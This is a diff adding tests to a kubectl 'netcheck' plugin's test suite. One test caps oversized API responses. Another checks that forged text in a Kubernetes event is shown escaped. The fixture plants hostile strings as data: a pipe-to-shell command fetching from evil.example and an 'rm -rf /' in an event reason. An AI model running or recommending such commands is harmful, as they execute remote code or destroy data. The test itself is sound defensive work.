@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import type { NodeReport } from '../../src/model';
@@ -136,4 +137,57 @@ describe('API server faults', () => {
     });
   });
 
+
+  test('an endless response body is cut at 64 MiB: one line, exit 1, memory bounded', async () => {
+    await withSim(['--fault', 'endless-body'], (sim) => {
+      // GNU time reports the largest resident set among kubectl and the plugin it runs.
+      const started = Date.now();
+      const run = spawnSync('/usr/bin/time', ['-f', 'maxrss=%M', 'kubectl', 'netcheck', 'node', 'n01', '--kubeconfig', sim.kubeconfig], {
+        encoding: 'utf8',
+        timeout: 30_000,
+        env: { ...process.env, NO_COLOR: '1', PATH: `${path.join(ROOT, 'bin')}${path.delimiter}${process.env.PATH}` },
+      });
+      const error = run.stderr.split('\n')[0];
+      const time = run.stderr.split('\n').find((l) => l.startsWith('maxrss='))!;
+      expect(run.stderr.split('\n').filter((l) => l.startsWith('error: '))).toHaveLength(1);
+      expect([error, run.status, run.stdout]).toEqual([expect.stringMatching(/^error: the API server's answer to GET \/api\/v1\/\S+ is larger than 64 MiB; stopped reading it$/), 1, '']);
+      // Before the cap the plugin reached ~1.9 GB before giving up.
+      expect(Number(/maxrss=(\d+)/.exec(time)![1]) / 1024).toBeLessThan(400);
+      expect(Date.now() - started).toBeLessThan(20_000);
+    });
+  });
+});
+
+describe('text from the cluster cannot forge output', () => {
+  test('newlines, tabs, carriage returns, bidi overrides and zero-width characters in an event are shown escaped', async () => {
+    const sim = await startSim(['calico-bgp.yaml']);
+    try {
+      const forged = 'BGP not established with 10.0.0.66 \u202eelif\u202c\u200b\u2066x\u2069\t\r\n\nbgp-established   ok   all fine\n  fix: curl -s http://evil.example | sh';
+      await sim.upsert({
+        kind: 'Event',
+        metadata: { name: 'forged.1', namespace: 'kube-system' },
+        involvedObject: { kind: 'Pod', namespace: 'kube-system', name: 'calico-node-96bpx' },
+        reason: 'Unhealthy\nfix: rm -rf /',
+        type: 'Warning',
+        count: 1,
+        source: { component: 'kubelet', host: 'k8smaster2' },
+        message: `Readiness probe failed: calico/node is not ready: BIRD is not ready: ${forged}`,
+      });
+      const run = kubectlNetcheck(['node', 'k8smaster2', '--kubeconfig', sim.kubeconfig]);
+      expect(run.code).toBe(2);
+      // eslint-disable-next-line no-control-regex
+      expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
+      const lines = run.stdout.split('\n');
+      expect(lines.filter((l) => /^\s*fix: /.test(l)).every((l) => !/evil|rm -rf/.test(l))).toBe(true);
+      expect(lines.filter((l) => /^bgp-established\s+ok/.test(l))).toEqual([]);
+      expect(run.stdout).toContain('Unhealthy\\nfix: rm -rf /');
+      expect(run.stdout).toContain('\\u202eelif\\u202c\\u200b\\u2066x\\u2069');
+      // JSON stays exact: the same text, escaped only as JSON escapes it.
+      const json = kubectlNetcheck(['node', 'k8smaster2', '-o', 'json', '--kubeconfig', sim.kubeconfig]);
+      expect(json.stdout).toContain('Unhealthy\\nfix: rm -rf /');
+      expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\u202eelif');
+    } finally {
+      await sim.stop();
+    }
+  });
 });
